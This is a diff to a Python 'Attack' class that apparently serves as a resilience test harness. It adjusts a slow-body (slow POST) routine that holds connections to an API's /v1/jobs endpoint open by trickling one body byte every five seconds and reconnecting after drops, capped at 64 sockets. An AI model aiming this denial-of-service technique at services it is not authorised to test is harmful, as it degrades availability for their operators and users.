@@ -56,7 +56,7 @@ class Attack:
         self.counts: Counter[str] = Counter()
 
     async def slow_body(self, authenticated: bool) -> None:
-        """Headers, then a byte of the promised body every 5 s; reopened whenever the API drops it."""
+        """Headers, then a byte of the promised body every 5 s; reopened a second after the API drops it."""
         auth = f"Authorization: Bearer {self.key}\r\n" if authenticated else ""
         head = (
             f"POST /v1/jobs HTTP/1.1\r\nHost: {self.host}\r\n{auth}Content-Type: application/json\r\n"
@@ -80,6 +80,7 @@ class Attack:
                 self.counts[f"slow_body_answered_{status[0].decode() if status else 'closed'}"] += 1
             answer.cancel()
             writer.close()
+            await asyncio.sleep(1)  # then another socket: 64 open at a time, not a connection flood
 
     async def waiting_call(self) -> None:
         """A non-streamed chat call that waits for its answer; tried again a second after a refusal."""
